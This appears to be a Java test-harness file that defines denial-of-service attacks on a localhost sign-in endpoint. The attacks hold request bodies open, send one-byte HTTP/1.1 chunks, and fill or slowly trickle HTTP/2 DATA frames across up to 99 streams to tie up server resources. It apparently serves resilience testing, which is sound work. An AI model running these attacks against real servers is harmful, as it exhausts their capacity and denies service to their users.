import java.io.IOException;
import java.time.Duration;
import java.util.List;

/// Attacks with bodies that never end, so that the server goes on holding what it has.
final class BodyAttacks {
  private static final int STREAMS = 99;
  private static final int LENGTH = 63 << 10; // within the 64 KiB that a body may have

  private static final String HEAD =
      "POST /v1/sign-in HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n";

  static final List<Attack> ALL =
      List.of(
          new Attack("h1-body-hold", Wire.Protocol.PLAIN, 900, BodyAttacks::bodyHold),
          new Attack("h1-tiny-chunks", Wire.Protocol.PLAIN, 300, BodyAttacks::tinyChunks),
          new Attack(
              "h2-body-hold", Wire.Protocol.HTTP_2, 100, wire -> fill(wire, LENGTH / 8, false)),
          new Attack("h2-tiny-data", Wire.Protocol.HTTP_2, 100, wire -> fill(wire, 512, true)),
          new Attack("h2-data-trickle", Wire.Protocol.HTTP_2, 100, BodyAttacks::dataTrickle));

  private BodyAttacks() {}

  /// A JSON string that goes on.
  private static void bodyHold(Wire wire) throws IOException {
    wire.write(HEAD + "Content-Length: " + (LENGTH + 1) + "\r\n\r\n\"" + "x".repeat(LENGTH - 1));
    wire.drain();
  }

  /// A body of one byte a piece: six bytes on the wire, and an object or two in the server.
  private static void tinyChunks(Wire wire) throws IOException {
    wire.write(HEAD + "Transfer-Encoding: chunked\r\n\r\n1\r\n\"\r\n");
    wire.write("1\r\nx\r\n".repeat(LENGTH));
    wire.drain();
  }

  /// The bodies of all streams, as far as the server allows: in large frames, or in frames of one
  /// byte.
  private static void fill(Wire wire, int batch, boolean tiny)
      throws IOException, InterruptedException {
    var http2 = new Http2(wire, Http2.WINDOW).reading();
    var block = Hpack.post("/v1/sign-in").bytes();
    while (true) {
      int stream = http2.begin(Http2.END_HEADERS, block);
      for (int sent = 0; sent + batch <= LENGTH; sent += batch) {
        http2.await(batch);
        if (tiny) {
          for (int i = 0; i < batch; i++) {
            http2.frame(Http2.DATA, 0, stream, (byte) 'x');
          }
        } else {
          http2.frame(Http2.DATA, 0, stream, "x".repeat(batch).getBytes());
        }
        http2.flush();
      }
      while (http2.open() >= STREAMS) {
        http2.pause(Duration.ofMillis(100));
      }
    }
  }

  /// The bodies of all streams, a byte on each stream every now and then.
  private static void dataTrickle(Wire wire) throws IOException, InterruptedException {
    var http2 = new Http2(wire, Http2.WINDOW).reading();
    var block = Hpack.post("/v1/sign-in").bytes();
    while (true) {
      while (http2.open() < STREAMS) {
        int stream = http2.begin(Http2.END_HEADERS, block);
        if (http2.isAllowed(512)) {
          http2.frame(Http2.DATA, 0, stream, "x".repeat(512).getBytes());
        }
      }
      for (int stream : http2.streams()) {
        if (http2.isAllowed(1)) {
          http2.frame(Http2.DATA, 0, stream, (byte) 'x');
        }
      }
      http2.flush();
      http2.pause(Duration.ofSeconds(1));
    }
  }
}
